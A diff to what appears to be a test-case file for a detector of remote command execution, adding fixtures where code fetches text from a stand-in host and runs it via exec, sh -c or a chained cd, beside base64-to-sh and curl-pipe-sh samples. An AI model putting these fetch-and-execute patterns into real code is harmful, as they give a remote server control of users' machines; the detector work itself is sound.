@@ -15,6 +15,18 @@ export default defineCases({
       name: 'a command that a server sends',
       code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((order) => cp.exec(order))",
     },
+    {
+      name: 'an interpreter that is fixed, with a script that is not',
+      code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((order) => cp.spawn('/bin/sh', ['-c', order]))",
+    },
+    {
+      name: 'a program in a folder that is fixed',
+      code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((order) => cp.spawn(`/tmp/${order}`))",
+    },
+    {
+      name: 'an order behind a harmless command',
+      code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((order) => cp.exec(`cd /tmp && ${order}`))",
+    },
     { name: 'a base64 text into a shell', code: "require('child_process').execSync('echo dHJ1ZQ== | base64 -d | sh')" },
     {
       name: 'in a binding.gyp',
@@ -33,6 +45,10 @@ export default defineCases({
     {
       name: 'how to install something else, as text',
       code: "console.log('Install with: curl -fsSL https://get.example/install.sh | sh')",
+    },
+    {
+      name: 'a page to open, where a login service says which',
+      code: "const cp = require('child_process');\nfetch('https://login.example/device', { method: 'POST' }).then((r) => r.json()).then(({ url }) => {\n  if (process.platform === 'darwin') cp.exec(`open ${JSON.stringify(url)}`);\n  else if (process.platform === 'win32') cp.exec(`cmd.exe /c start \"\" ${JSON.stringify(url)}`);\n  else cp.spawn('xdg-open', [url]);\n})",
     },
     {
       name: 'a download that is shown',
